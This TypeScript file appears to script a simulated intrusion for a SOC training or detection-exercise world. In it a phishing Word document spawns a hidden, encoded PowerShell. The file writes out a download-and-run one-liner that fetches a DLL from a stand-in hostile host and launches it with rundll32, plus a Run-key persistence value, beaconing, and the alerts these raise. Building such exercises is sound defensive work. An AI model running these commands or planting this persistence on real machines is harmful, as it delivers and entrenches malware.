import { raise } from '../alerts/alert.ts'
import { device, dns, file, ip, networkConnection, process, registryValue, url, user } from '../alerts/evidence.ts'
import { ws11 } from '../company/devices.ts'
import { broughtImage, type Image, image } from '../company/images.ts'
import { hostile } from '../company/internet.ts'
import { jonas } from '../company/people.ts'
import { act, connect, loadImage, toHost, touchFile, touchRegistry } from '../deed.ts'
import { at, MINUTE } from '../moment.ts'
import { encoded } from '../powershell.ts'
import { type Process, rowOf, spawn } from '../process.ts'
import { sessionAt } from '../session.ts'
import type { Stage } from '../stage.ts'
import { note } from '../truth.ts'
import { drawing } from './internal-phish.ts'

const ADJUST = 'C:\\Users\\jonas.lindqvist\\AppData\\Roaming\\Adjust'
export const loader: Image = broughtImage('adjsync.dll', ADJUST, 412_160, { product: 'Adjust', version: '1.0.0.0' })
export const loaderLine = `rundll32.exe ${ADJUST}\\adjsync.dll,Start`
const runKey = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'

/** Tuesday 08:58: Jonas opens the drawing; by 09:01 a stranger's library runs in rundll32 and stays. */
export function execution({ world, roster }: Stage): Process {
  const desk = sessionAt(roster, ws11, at(14, '08:58:03'))
  const saved = touchFile(world, desk.outlook!, at(14, '08:58:03'), drawing)
  note(world, 'main', 'Execution', 'T1204.002', 'The drawing is opened from the mail', saved)
  const word = spawn(
    world,
    desk.outlook!,
    at(14, '08:58:05'),
    'WINWORD.EXE',
    `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${drawing.folder}\\${drawing.fileName}" /o ""`,
  )
  loadImage(world, word, at(14, '08:58:12'), image('VBE7.DLL', ws11))
  const cmd = spawn(world, word, at(14, '08:58:47'), 'cmd.exe', 'cmd.exe /c start /min powershell -w hidden -ep bypass -enc %ADJ%')
  const fetch = `$u='https://${hostile.payload.name}/assets/adj.bin';$p="$env:APPDATA\\Adjust\\adjsync.dll";Invoke-WebRequest $u -OutFile $p;rundll32 $p,Start`
  const shell = spawn(world, cmd, at(14, '08:58:48'), 'powershell.exe', `powershell -w hidden -ep bypass -enc ${encoded(fetch)}`)
  spawn(world, shell, at(14, '08:58:49'), 'conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1')
  note(world, 'main', 'Execution', 'T1059.001', 'Word starts a shell and that an encoded PowerShell', rowOf(shell))
  act(world, shell, at(14, '08:58:51'), 'AmsiScriptDetection', {}, { Description: fetch })
  const fetched = connect(world, shell, at(14, '08:58:53'), toHost(hostile.payload, 443, '/assets/adj.bin'))
  note(world, 'main', 'CommandAndControl', 'T1105', 'The library is fetched', fetched)
  const dropped = touchFile(world, shell, at(14, '08:58:56'), loader, {
    origin: { url: `https://${hostile.payload.name}/assets/adj.bin`, ip: hostile.payload.ip },
  })
  note(world, 'main', 'Execution', 'T1105', 'and written to the roaming profile', dropped)
  const runner = spawn(world, shell, at(14, '08:58:59'), 'rundll32.exe', loaderLine)
  note(world, 'main', 'DefenseEvasion', 'T1218.011', 'rundll32 runs it', rowOf(runner))
  loadImage(world, runner, at(14, '08:59:00'), loader)
  const calls = [
    '08:59:04',
    '09:14:06',
    '09:29:05',
    '10:14:08',
    '11:44:04',
    '12:29:06',
    '16:40:05',
    '20:25:07',
    '23:10:02',
    '23:25:04',
  ].map((clock) => connect(world, runner, at(14, clock), toHost(hostile.control)))
  for (const call of calls) note(world, 'main', 'CommandAndControl', 'T1071.001', 'The library calls home', call)

  const key = `HKEY_CURRENT_USER\\${jonas.sid}\\${runKey}`
  const stays = touchRegistry(world, runner, at(14, '09:10:31'), { key, name: 'AdjustSync', data: loaderLine })
  note(world, 'main', 'Persistence', 'T1547.001', 'A Run value starts it at each sign-in', stays)

  const main = device(ws11, { roles: ['attacked', 'compromised'], verdict: 'malicious', detailedRoles: ['Main device'] })
  const who = user(jonas, { roles: ['compromised'], verdict: 'suspicious' })
  const doc = file(drawing, ws11, { verdict: 'malicious', status: 'remediated' })
  const dll = file(loader, ws11, { verdict: 'malicious', status: 'active' })
  raise(world, {
    key: 'office-shell',
    plot: 'main',
    stage: 'Execution',
    by: 'endpoint',
    severity: 'high',
    category: 'Execution',
    techniques: ['T1204.002', 'T1059.003'],
    title: 'Suspicious process launched from an Office document',
    description: 'Word started a command interpreter after a document from an email was opened. Documents rarely do so for good reasons.',
    first: at(14, '08:58:47'),
    evidence: [main, who, process(word, { verdict: 'suspicious' }), process(cmd, { verdict: 'malicious' }), doc],
    assignedTo: 'soc.desk@norrvik.example',
    status: 'inProgress',
    comments: [
      {
        by: 'Karl Wallin',
        text: 'Called Jonas: he says the drawing did not open, and closed Word. Will look at the machine tomorrow morning.',
        after: 70 * MINUTE,
      },
    ],
  })
  raise(world, {
    key: 'encoded-download',
    plot: 'main',
    stage: 'Execution',
    by: 'endpoint',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1059.001', 'T1105'],
    title: 'Suspicious PowerShell command line',
    description: 'A hidden PowerShell with an encoded command fetched a file from a host that nobody in the organisation visited before.',
    first: at(14, '08:58:48'),
    last: at(14, '08:58:59'),
    evidence: [
      main,
      who,
      process(shell, { verdict: 'malicious' }),
      process(cmd, { verdict: 'suspicious' }),
      dll,
      url(`https://${hostile.payload.name}/assets/adj.bin`, { verdict: 'malicious' }),
      ip(hostile.payload.ip, { verdict: 'malicious' }),
    ],
  })
  raise(world, {
    key: 'beacon',
    plot: 'main',
    stage: 'CommandAndControl',
    by: 'endpoint',
    severity: 'medium',
    category: 'CommandAndControl',
    techniques: ['T1071.001', 'T1218.011'],
    title: 'Regular connections to a rare host',
    description: 'rundll32 connects at even intervals to a host that no other device talks to.',
    first: at(14, '08:59:04'),
    last: at(14, '10:14:08'),
    evidence: [
      main,
      process(runner, { verdict: 'malicious' }),
      dll,
      dns(hostile.control.name, hostile.control.ip, { verdict: 'suspicious' }),
      ip(hostile.control.ip, { verdict: 'malicious', roles: ['commandAndControl'] }),
      networkConnection(calls[0]!, { verdict: 'malicious' }),
    ],
  })
  raise(world, {
    key: 'run-key',
    plot: 'main',
    stage: 'Persistence',
    by: 'endpoint',
    severity: 'medium',
    category: 'Persistence',
    techniques: ['T1547.001'],
    title: 'Anomaly detected in ASEP registry',
    description: 'A value that starts a program at sign-in was written and points to a library in the user profile.',
    first: at(14, '09:10:31'),
    evidence: [
      main,
      who,
      process(runner, { verdict: 'malicious' }),
      registryValue(ws11, 'HKEY_CURRENT_USER', `${jonas.sid}\\${runKey}`, 'AdjustSync', loaderLine, {
        verdict: 'malicious',
        status: 'active',
      }),
      dll,
    ],
  })
  raise(world, {
    key: 'night-beacon',
    plot: 'main',
    stage: 'CommandAndControl',
    by: 'custom',
    severity: 'medium',
    category: 'CommandAndControl',
    techniques: ['T1071.001'],
    title: 'System binary talks to a rare domain outside working hours',
    description: 'Custom detection: rundll32, regsvr32 or mshta with a public connection between 18:00 and 05:00 UTC.',
    first: at(14, '20:25:07'),
    last: at(14, '23:25:04'),
    delay: 20 * MINUTE,
    evidence: [main, process(runner, { verdict: 'suspicious' }), ip(hostile.control.ip, { verdict: 'suspicious' })],
  })
  return runner
}
